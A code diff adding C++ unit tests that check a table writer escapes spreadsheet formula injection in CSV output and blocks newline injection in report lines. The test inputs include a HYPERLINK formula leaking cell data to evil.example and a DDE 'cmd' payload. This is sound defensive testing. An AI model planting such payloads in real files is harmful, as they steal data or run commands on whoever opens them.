@@ -211,3 +211,41 @@ TEST(Table, JsonEntriesMakeOneArray) {
   EXPECT_EQ("", csv.beforeEntry());
   EXPECT_EQ("", csv.end());
 }
+
+TEST(Table, TextThatASpreadsheetWouldRunIsWrittenAsText) {
+  kalmir::Result a = numberedFigures();
+  a.d = -2.5f;  // a number keeps its sign
+  for (const std::string name :
+       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)",
+        "@SUM(A1)", "-1", "\tTab", "\rCR"}) {
+    const std::string row =
+        tableEntry(TableFormat::kCsv, goodCase(name), &a);
+    const std::string kept = "'" + name;
+    const bool bQuoted = kept.find_first_of(",\"\r\n") != std::string::npos;
+    std::string field = kept;
+    if (bQuoted) {
+      field = "\"";
+      for (char c : kept) field += c == '"' ? std::string("\"\"") : std::string(1, c);
+      field += "\"";
+    }
+    EXPECT_EQ(0u, row.find(field + ",ok,3,4,")) << row;
+    EXPECT_NE(std::string::npos, row.find(",-2.5,")) << row;
+    // JSON is data, not a spreadsheet: the name stays as it is.
+    EXPECT_EQ(name, nlohmann::json::parse(tableEntry(
+                        TableFormat::kJson, goodCase(name), &a))["case"]);
+  }
+  // A note that begins like a formula is text too.
+  Case c = failedCase("Lee");
+  c.file = "=cmd|'/C calc'!A0.csv";
+  EXPECT_NE(std::string::npos,
+            tableEntry(TableFormat::kCsv, c, nullptr).find(",'=cmd|"));
+}
+
+TEST(Table, AFileNameCannotStartALineOfItsOwn) {
+  Case c = failedCase("Lee");
+  c.file = "a.csv\n== Fake case";
+  const std::string report = tableEntry(TableFormat::kReport, c, nullptr);
+  EXPECT_EQ(std::string::npos, report.find("\n== Fake")) << report;
+  EXPECT_EQ("a.csv?== Fake case:14: no B phase (the phase column holds only A)",
+            caseMessage(c));
+}
